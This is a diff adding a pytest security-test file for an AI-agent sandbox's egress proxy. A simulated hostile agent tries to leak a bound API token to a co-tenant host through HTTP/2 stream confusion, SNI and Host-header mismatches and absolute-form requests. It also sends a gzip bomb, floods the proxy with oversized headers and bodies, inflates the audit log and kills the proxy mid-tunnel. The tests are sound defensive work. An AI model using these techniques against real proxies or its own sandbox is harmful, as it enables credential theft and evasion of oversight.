@@ -1,0 +1,510 @@
+"""A hostile agent attacks the egress proxy from inside a real bottle.
+
+One bottle (agent `attacker`) whose bundle reaches a TLS echo upstream of ours on the test world's
+outside network. The upstream has its own CA, trusted through `[egress] upstream_ca`, and answers
+as both `secret.test` (bound to the secret) and `other.test` (allowed, not bound: a co-tenant on
+the same front). It logs every request it receives (headers, TLS server name, port, body), so the
+tests check where the real secret value actually went, not what the proxy says it did.
+
+Every attack runs as the agent, with the agent image's own tools (curl, openssl s_client, node).
+The bundle's memory is read from Docker before and after the resource attacks; the figures are
+printed (run with ``-s`` to see them).
+"""
+
+from __future__ import annotations
+
+import dataclasses
+import json
+import threading
+import time
+import uuid
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.bottle_fixtures import REPO_ROOT, BottleWorld, running_bottle, world_env
+from tests.bundle_helpers import HELPERS_IN_CONTAINER, TEST_LABELS, make_test_ca
+
+pytestmark = [pytest.mark.docker, pytest.mark.slow, pytest.mark.escape]
+
+MANIFEST = """\
+[agents.attacker]
+command = ["sleep", "infinity"]
+copy_cwd = false
+
+[bottles.default]
+dockerfile = "{repo}/Dockerfile"
+context = "{repo}"
+memory = "512m"
+cpus = 1
+
+[bottles.default.egress]
+# The test network is a private range, refused unless its address is listed too.
+allow = ["secret.test:443", "other.test:443", "other.test:80", "{ip}/32:443", "{ip}/32:80"]
+upstream_ca = "{ca}"
+
+[bottles.default.secrets.API_TOKEN]
+from_env = "BOTTLE_TEST_TOKEN"
+hosts = ["secret.test:443"]
+"""
+
+MEMORY_BOUND = 100 * 1024 * 1024  # bytes a resource attack may add to the bundle's memory
+MEMORY: dict[str, tuple[int, int]] = {}  # attack -> bundle memory (rss) before, after
+
+# The proxy as `host:port` and an Authorization header with the agent's placeholder.
+SHELL_PRELUDE = (
+    'P=${HTTPS_PROXY#http://}; P=${P%/}; AUTH="Authorization: Bearer $API_TOKEN"; '
+    "CURL='curl -sS -m 30 -x '$HTTPS_PROXY; "
+)
+
+
+@dataclasses.dataclass(frozen=True)
+class Arena:
+    world: BottleWorld
+    record: Any
+    upstream: Any
+    bundle: Any
+    secret: str
+    audit_log: Path
+
+    def agent(self, script: str) -> tuple[int, str]:
+        """Run a bash script in the sandbox as the agent: (exit code, output)."""
+        from bottle_engine.backends import backend_named
+
+        with world_env(self.world):
+            return backend_named("docker").exec_as_agent(
+                self.record, ["bash", "-c", SHELL_PRELUDE + script]
+            )
+
+    def node(self, source: str, *args: str) -> dict[str, Any]:
+        """Run a node script as the agent; it prints one JSON line last."""
+        from bottle_engine.backends import backend_named
+
+        with world_env(self.world):
+            code, output = backend_named("docker").exec_as_agent(
+                self.record, ["node", "-e", source, *args]
+            )
+        assert code == 0, output
+        parsed: dict[str, Any] = json.loads(output.strip().splitlines()[-1])
+        return parsed
+
+    def received(self) -> list[dict[str, Any]]:
+        """Every request the upstream received, as it logged them."""
+        logs = bytes(self.upstream.logs(stdout=True, stderr=False)).decode("utf-8", "replace")
+        return [json.loads(line) for line in logs.splitlines() if line.startswith("{")]
+
+    def audit(self) -> list[dict[str, Any]]:
+        lines = self.audit_log.read_text().splitlines() if self.audit_log.exists() else []
+        return [json.loads(line) for line in lines if line.strip()]
+
+    def audit_bytes(self) -> int:
+        return sum(p.stat().st_size for p in self.audit_log.parent.glob("egress.jsonl*"))
+
+    def bundle_rss(self) -> int:
+        """The bundle's resident memory (cgroup rss; page cache excluded), in bytes."""
+        stats = self.bundle.stats(stream=False)["memory_stats"]
+        detail = stats.get("stats", {})
+        return int(detail.get("rss", detail.get("anon", stats.get("usage", 0))))
+
+
+@pytest.fixture(scope="module")
+def arena(
+    bottle_world: BottleWorld,
+    docker_client: Any,
+    bundle_image: str,
+    tmp_path_factory: pytest.TempPathFactory,
+) -> Iterator[Arena]:
+    from bottle_engine import state
+
+    directory = tmp_path_factory.mktemp("egress-attacks")
+    tls = make_test_ca(directory / "tls", ["secret.test", "other.test"])
+    network = bottle_world.outside.network
+    upstream = docker_client.containers.run(
+        bundle_image,
+        [
+            *("python3", HELPERS_IN_CONTAINER, "serve", "--log-requests"),
+            *("--tls-cert", "/srv/tls/server.pem", "--tls-key", "/srv/tls/server-key.pem"),
+        ],
+        entrypoint=[],
+        name=f"bbtest-echo-{uuid.uuid4().hex[:8]}",
+        user="0:0",  # binds ports 80 and 443
+        network=network,
+        labels=TEST_LABELS,
+        volumes={
+            str(REPO_ROOT / "tests" / "bundle_helpers.py"): {
+                "bind": HELPERS_IN_CONTAINER,
+                "mode": "ro",
+            },
+            str(tls.server_cert.parent): {"bind": "/srv/tls", "mode": "ro"},
+        },
+        detach=True,
+    )
+    try:
+        _wait_ready(upstream)
+        upstream.reload()
+        ip = upstream.attrs["NetworkSettings"]["Networks"][network]["IPAddress"]
+        manifest = directory / "bottle.toml"
+        manifest.write_text(MANIFEST.format(repo=REPO_ROOT, ca=tls.ca_cert, ip=ip))
+        world = dataclasses.replace(
+            bottle_world,
+            manifest=manifest,
+            env={**bottle_world.env, "BOTTLE_BUNDLE_HOSTS": f"secret.test={ip},other.test={ip}"},
+        )
+        with running_bottle(world, "attacker") as record:
+            with world_env(world):
+                audit_log = state.bottle_dir(record.slug) / "egress.jsonl"
+            bundle = docker_client.containers.get(record.bundle_name)
+            yield Arena(world, record, upstream, bundle, world.secret_value, audit_log)
+    finally:
+        upstream.remove(force=True)
+        for attack, (before, after) in MEMORY.items():
+            print(
+                f"bundle memory (rss) around {attack}: {before / 2**20:.1f} MiB -> "
+                f"{after / 2**20:.1f} MiB ({(after - before) / 2**20:+.1f} MiB)"
+            )
+
+
+def _wait_ready(container: Any) -> None:
+    deadline = time.monotonic() + 60
+    while time.monotonic() < deadline:
+        if b"upstream ready" in bytes(container.logs()):
+            return
+        time.sleep(0.2)
+    raise AssertionError(f"the echo upstream never started: {container.logs()!r}")
+
+
+def _status(output: str) -> int | None:
+    """The status of the first HTTP response in `output` (after the tunnel's)."""
+    for line in output.splitlines():
+        # curl -i through the proxy shows the CONNECT's answer first.
+        if line.startswith("HTTP/1.") and "Connection established" not in line:
+            return int(line.split()[1])
+    return None
+
+
+# --------------------------------------------------------------------------- the controls
+
+
+def test_the_bound_host_gets_the_real_value_and_the_agent_only_the_placeholder(
+    arena: Arena,
+) -> None:
+    code, output = arena.agent('$CURL -H "$AUTH" https://secret.test/control')
+    assert code == 0, output
+    (seen,) = [r for r in arena.received() if r["path"] == "/control"]
+    assert seen["headers"]["Authorization"] == f"Bearer {arena.secret}"
+    assert (seen["sni"], seen["port"]) == ("secret.test", 443)
+    # The upstream echoed the header back: the agent sees its placeholder, not the value.
+    assert arena.secret not in output and "bbph_" in json.loads(output)["headers"]["Authorization"]
+
+
+@pytest.mark.parametrize("mode", ["header", "encoded", "gzip", "chunked"])
+def test_a_secret_echoed_by_the_bound_host_never_reaches_the_agent(arena: Arena, mode: str) -> None:
+    """The bound host sends the value back: in a header and body, percent- and JSON-encoded,
+    gzip-compressed although the agent asked for it, cut across the chunks of a 2 MiB stream."""
+    code, output = arena.agent(
+        f'$CURL -i --compressed -H "$AUTH" https://secret.test/reflect/{mode} > /tmp/reflected; '
+        "head -c 2000 /tmp/reflected; echo; grep -o bbph_ /tmp/reflected | wc -l"
+    )
+    assert code == 0, output
+    assert arena.secret not in output
+    assert _status(output) == 200 and "X-Seen-Authorization: Bearer bbph_" in output
+    assert int(output.strip().splitlines()[-1]) >= 2
+    sent = [r for r in arena.received() if r["path"] == f"/reflect/{mode}"]
+    assert sent and sent[-1]["headers"]["Authorization"] == f"Bearer {arena.secret}"
+
+
+def test_a_compressed_stream_from_the_bound_host_is_refused(arena: Arena) -> None:
+    _, output = arena.agent('$CURL -i -H "$AUTH" https://secret.test/reflect/gzip-stream')
+    assert arena.secret not in output
+    assert _status(output) == 502 and "response-not-inspectable" in output, output
+
+
+# --------------------------------------------------------------------------- one destination
+
+H2_CONFUSION = r"""
+const tls = require('tls'), http2 = require('http2');
+const [host, port] = process.env.HTTPS_PROXY.replace('http://', '').replace(/\/$/, '').split(':');
+const out = {alpn: null, status: null, body: '', error: null};
+const finish = () => { console.log(JSON.stringify(out)); process.exit(0); };
+setTimeout(() => { out.error = out.error || 'timeout'; finish(); }, 20000);
+const sock = tls.connect({host, port: +port, ALPNProtocols: ['h2'], rejectUnauthorized: false,
+                          servername: 'proxy.test'});
+sock.on('error', e => { out.error = String(e); finish(); });
+sock.on('close', () => { if (!out.alpn) { out.error = out.error || 'closed'; finish(); } });
+sock.on('secureConnect', () => {
+  out.alpn = sock.alpnProtocol || 'none';
+  if (sock.alpnProtocol !== 'h2') { out.error = 'no h2'; finish(); return; }
+  const session = http2.connect('http://proxy.test', {createConnection: () => sock});
+  session.on('error', e => { out.error = String(e); finish(); });
+  // Stream 1: a tunnel to the secret's host. Stream 3: plain HTTP elsewhere, with the placeholder.
+  const tunnel = session.request({':method': 'CONNECT', ':authority': 'secret.test:443'});
+  tunnel.on('error', () => {});
+  const stolen = session.request({':method': 'GET', ':scheme': 'http', ':path': '/stolen',
+      ':authority': 'other.test:80', authorization: 'Bearer ' + process.env.API_TOKEN},
+      {endStream: true});
+  stolen.on('response', h => { out.status = h[':status']; });
+  stolen.on('data', d => { out.body += d; });
+  stolen.on('end', finish);
+  stolen.on('error', e => { out.error = String(e); finish(); });
+});
+"""
+
+
+def test_h2_stream_confusion_never_sends_the_secret_elsewhere(arena: Arena) -> None:
+    result = arena.node(H2_CONFUSION)
+    stolen = [r for r in arena.received() if r["path"] == "/stolen"]
+    assert not any(arena.secret in json.dumps(r) for r in stolen), stolen
+    assert result["status"] is None and result["alpn"] != "h2", result  # no TLS to the proxy port
+    assert any(e["rule"] == "tls-to-proxy" for e in arena.audit())
+
+
+def _s_client(servername: str, request: str) -> str:
+    """openssl s_client through the proxy's CONNECT to secret.test:443, with its own SNI."""
+    return (
+        f"printf '{request}' \"$API_TOKEN\" | timeout 30 openssl s_client -quiet "
+        f"-proxy $P -connect secret.test:443 -servername {servername} 2>&1"
+    )
+
+
+def test_sni_naming_another_host_is_refused(arena: Arena) -> None:
+    _, output = arena.agent(
+        _s_client(
+            "other.test",
+            "GET /sni HTTP/1.1\\r\\nHost: secret.test\\r\\nAuthorization: Bearer %s\\r\\n"
+            "Connection: close\\r\\n\\r\\n",
+        )
+    )
+    assert _status(output) == 403 and "name-mismatch" in output and "SNI" in output, output
+    assert not [r for r in arena.received() if r["path"] == "/sni"]
+
+
+def test_host_header_naming_another_host_is_refused(arena: Arena) -> None:
+    _, output = arena.agent('$CURL -i -H "$AUTH" -H "Host: other.test" https://secret.test/host')
+    assert _status(output) == 403 and "name-mismatch" in output and "Host" in output, output
+    assert not [r for r in arena.received() if r["path"] == "/host"]
+
+
+def test_absolute_form_inside_the_tunnel_naming_another_host_is_refused(arena: Arena) -> None:
+    _, output = arena.agent(
+        _s_client(
+            "secret.test",
+            "GET https://other.test/absolute HTTP/1.1\\r\\nHost: secret.test\\r\\n"
+            "Authorization: Bearer %s\\r\\nConnection: close\\r\\n\\r\\n",
+        )
+    )
+    assert _status(output) == 403 and "name-mismatch" in output, output
+    assert not [r for r in arena.received() if r["path"] == "/absolute"]
+
+
+def test_plain_http_with_the_bound_hosts_name_in_host_is_refused(arena: Arena) -> None:
+    _, output = arena.agent('$CURL -i -H "$AUTH" -H "Host: secret.test" http://other.test/plain')
+    assert _status(output) == 403, output
+    assert "name-mismatch" in output or "secret-wrong-host" in output
+    assert not [r for r in arena.received() if r["path"] == "/plain"]
+
+
+# --------------------------------------------------------------------------- resources
+
+RAW_FLOOD = r"""
+const net = require('net');
+const [host, port] = process.env.HTTPS_PROXY.replace('http://', '').replace(/\/$/, '').split(':');
+const mode = process.argv[1], total = +process.argv[2];
+const head = mode === 'header'
+  ? 'GET http://other.test/ HTTP/1.1\r\nHost: other.test\r\nX-Big: '
+  : 'POST http://denied.invalid/ HTTP/1.1\r\nHost: denied.invalid\r\n'
+    + `Content-Length: ${total}\r\n\r\n`;
+const chunk = Buffer.alloc(65536, 97);
+let sent = 0, response = '', answered = false, error = null;
+const sock = net.connect(+port, host);
+// One chunk per turn of the event loop, so the proxy's early answer is read as soon as it
+// arrives (it closes the connection right after, and a write then fails with a reset).
+const pump = () => {
+  if (answered || sent >= total) return;
+  sent += chunk.length;
+  if (sock.write(chunk)) setImmediate(pump); else sock.once('drain', pump);
+};
+sock.on('connect', () => { sock.write(head); pump(); });
+sock.on('data', d => {
+  response += d;
+  if (!answered && response.includes('\r\n\r\n')) {
+    answered = true; setTimeout(() => sock.destroy(), 1000);
+  }
+});
+sock.on('error', e => { error = String(e); });
+sock.on('close', () => {
+  console.log(JSON.stringify({sent, error, response: response.slice(0, 2000)}));
+  process.exit(0);
+});
+setTimeout(() => sock.destroy(), 120000);
+"""
+
+
+def _measured(arena: Arena, attack: str, run: Any) -> Any:
+    arena.agent("$CURL -o /dev/null https://other.test/warm-up")  # the proxy is warm before
+    before = arena.bundle_rss()
+    result = run()
+    after = arena.bundle_rss()
+    MEMORY[attack] = (before, after)
+    assert after - before < MEMORY_BOUND, f"{attack}: bundle rss {before} -> {after} bytes"
+    return result
+
+
+def test_a_gzip_bomb_to_the_bound_host_gets_413_and_costs_the_bundle_little(arena: Arena) -> None:
+    """256 MiB of zeros gzip to about 250 KiB: small enough to be buffered and inspected."""
+
+    def run() -> tuple[int, str]:
+        return arena.agent(
+            "head -c 256M /dev/zero | gzip -9 > /tmp/bomb.gz && ls -l /tmp/bomb.gz && "
+            '$CURL -i -H "$AUTH" -H "Content-Encoding: gzip" --data-binary @/tmp/bomb.gz '
+            "https://secret.test/bomb; rm -f /tmp/bomb.gz"
+        )
+
+    _, output = _measured(arena, "gzip bomb (256 MiB inflated)", run)
+    assert _status(output) == 413 and "decoded-body-limit" in output, output
+
+
+def test_an_unending_request_head_gets_431_and_costs_the_bundle_little(arena: Arena) -> None:
+    size = 128 * 1024 * 1024
+    result = _measured(arena, "128 MiB header", lambda: arena.node(RAW_FLOOD, "header", str(size)))
+    assert result["response"].startswith("HTTP/1.1 431"), result
+    assert "request-head-limit" in result["response"]
+    assert result["sent"] < size
+
+
+def test_a_huge_body_to_a_denied_host_gets_403_unread(arena: Arena) -> None:
+    """The proxy answers 403 after 64 KiB of the body and closes. A client still writing may
+    see the close as a reset before it reads the 403 (Linux drops unread data on reset), so
+    the refusal is checked in the audit log too, and the 403 whenever it arrived."""
+    size = 128 * 1024 * 1024
+    result = _measured(
+        arena, "128 MiB body to a denied host", lambda: arena.node(RAW_FLOOD, "body", str(size))
+    )
+    assert result["sent"] < size, result
+    if result["response"]:
+        assert result["response"].startswith("HTTP/1.1 403"), result
+        assert "default-deny" in result["response"]
+    else:
+        assert "ECONNRESET" in str(result["error"]) or "EPIPE" in str(result["error"]), result
+    refused = [
+        e
+        for e in arena.audit()
+        if e["method"] == "POST" and e["host"] == "denied.invalid" and e["decision"] == "deny"
+    ]
+    assert refused and refused[-1]["rule"] == "default-deny"
+
+
+def test_audit_fields_cannot_amplify_the_log(arena: Arena) -> None:
+    """50 requests with a 60 000-character method (under the head limit): each line capped."""
+    before = arena.audit_bytes()
+    _, output = arena.agent(
+        "M=$(head -c 60000 /dev/zero | tr '\\0' X); "
+        'for i in $(seq 50); do $CURL -o /dev/null -w "%{http_code}\\n" -X "$M" '
+        "http://denied.invalid/; done | sort | uniq -c"
+    )
+    assert "50 403" in output, output
+    growth = arena.audit_bytes() - before
+    assert growth < 50 * 4096, f"50 requests grew the audit log by {growth} bytes"
+
+
+# --------------------------------------------------------------------------- audit gaps
+
+OPEN_TUNNEL = r"""
+const net = require('net');
+const [host, port] = process.env.HTTPS_PROXY.replace('http://', '').replace(/\/$/, '').split(':');
+const sock = net.connect(+port, host);
+let state = 'connect', sent = 0;
+sock.on('connect', () =>
+  sock.write('CONNECT other.test:443 HTTP/1.1\r\nHost: other.test:443\r\n\r\n'));
+sock.on('data', d => {
+  if (state === 'connect' && d.toString().startsWith('HTTP/1.1 200')) {
+    state = 'open';
+    const hello = Buffer.from('bytes through a tunnel whose proxy is about to die');
+    sock.write(hello); sent += hello.length;
+  }
+});
+sock.on('error', () => {});
+sock.on('close', () => { console.log(JSON.stringify({state, sent})); process.exit(0); });
+setTimeout(() => sock.destroy(), 60000);
+"""
+
+
+def _proxy_pids(bundle: Any) -> list[int]:
+    """The egress proxy's process ids in the bundle (by its exact module name)."""
+    code, output = bundle.exec_run(
+        [
+            "python3",
+            "-c",
+            "import os\n"
+            "for p in os.listdir('/proc'):\n"
+            "    if p.isdigit():\n"
+            "        try: c = open(f'/proc/{p}/cmdline', 'rb').read().split(b'\\0')\n"
+            "        except OSError: continue\n"
+            "        if b'bottle_engine.bundle.egress' in c: print(p)\n",
+        ]
+    )
+    assert code == 0, output
+    return [int(pid) for pid in bytes(output).split()]
+
+
+def test_a_tunnel_whose_proxy_is_killed_while_open_is_in_the_audit_log(arena: Arena) -> None:
+    results: list[tuple[int, str]] = []
+    client = threading.Thread(
+        target=lambda: results.append(arena.agent(f"node -e {_quote(OPEN_TUNNEL)}")), daemon=True
+    )
+    client.start()
+    deadline = time.monotonic() + 30
+    opened: list[dict[str, Any]] = []
+    while not opened and time.monotonic() < deadline:
+        opened = [
+            e
+            for e in arena.audit()
+            if e["host"] == "other.test" and e["port"] == 443 and e.get("stage") == "open"
+        ]
+        time.sleep(0.2)
+    pids = _proxy_pids(arena.bundle)
+    assert pids, "no egress proxy process in the bundle"
+    for pid in pids:
+        arena.bundle.exec_run(["kill", "-9", str(pid)])
+    client.join(timeout=90)
+    assert results and '"state":"open"' in results[0][1], results
+    assert opened, "no open record for a tunnel that was open when its proxy died"
+    assert opened[-1]["decision"] == "allow" and opened[-1]["kind"] == "tunnel"
+
+
+def _quote(text: str) -> str:
+    import shlex
+
+    return shlex.quote(text)
+
+
+def test_the_probe_command_runs_the_proxy_attacks_that_need_no_upstream(arena: Arena) -> None:
+    from bottle_engine import lifecycle
+    from bottle_engine.probes import ProbeTargets
+
+    head, last = arena.record.bundle_ip.rsplit(".", 1)
+    targets = ProbeTargets(bundle_ip=arena.record.bundle_ip, gateway_ip=f"{head}.{int(last) - 1}")
+    with world_env(arena.world):
+        report, leaks = lifecycle.probe(arena.record.slug, targets)
+    proxy = {r.probe.name: r for r in report.results if r.probe.name.startswith("proxy-")}
+    for name in (
+        "proxy-refuses-tls-on-its-port",
+        "proxy-bounds-request-head",
+        "proxy-answers-a-refused-body-early",
+    ):
+        assert proxy[name].passed, (name, proxy[name].output)
+    assert leaks == []
+
+
+# --------------------------------------------------------------------------- the verdict
+
+
+def test_zz_the_real_value_reached_the_bound_host_only(arena: Arena) -> None:
+    """Across every attack above (this test runs last): what the upstream received shows the
+    real value only on TLS requests to secret.test:443 named secret.test."""
+    carrying = [r for r in arena.received() if arena.secret in json.dumps(r)]
+    assert carrying, "the control never delivered the real value"
+    for request in carrying:
+        assert (request["sni"], request["port"]) == ("secret.test", 443), request
+        assert request["headers"]["Host"].split(":")[0] == "secret.test", request
